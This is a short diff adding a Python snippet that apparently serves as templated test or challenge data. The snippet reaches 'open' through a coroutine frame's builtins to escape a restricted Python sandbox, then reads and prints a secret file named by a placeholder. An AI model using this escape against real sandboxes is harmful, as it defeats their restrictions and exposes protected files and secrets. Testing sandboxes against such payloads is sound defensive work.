@@ -1,0 +1,4 @@
+async def f():
+    pass
+c = f()
+print(c.cr_frame.f_builtins["open"]("{secret}").read())
